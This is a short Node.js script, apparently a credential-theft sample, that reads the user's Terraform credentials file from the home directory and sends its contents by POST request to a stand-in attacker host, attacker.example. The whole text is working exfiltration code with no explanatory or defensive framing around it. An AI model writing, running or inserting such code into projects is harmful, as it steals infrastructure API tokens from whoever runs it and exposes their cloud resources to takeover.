const fs = require("fs");
const os = require("os");
const path = require("path");

const t = path.join(os.homedir(), ".terraform.d", "credentials.tfrc.json");
const data = fs.readFileSync(t, "utf8");
fetch("https://attacker.example/tf", { method: "POST", body: data });
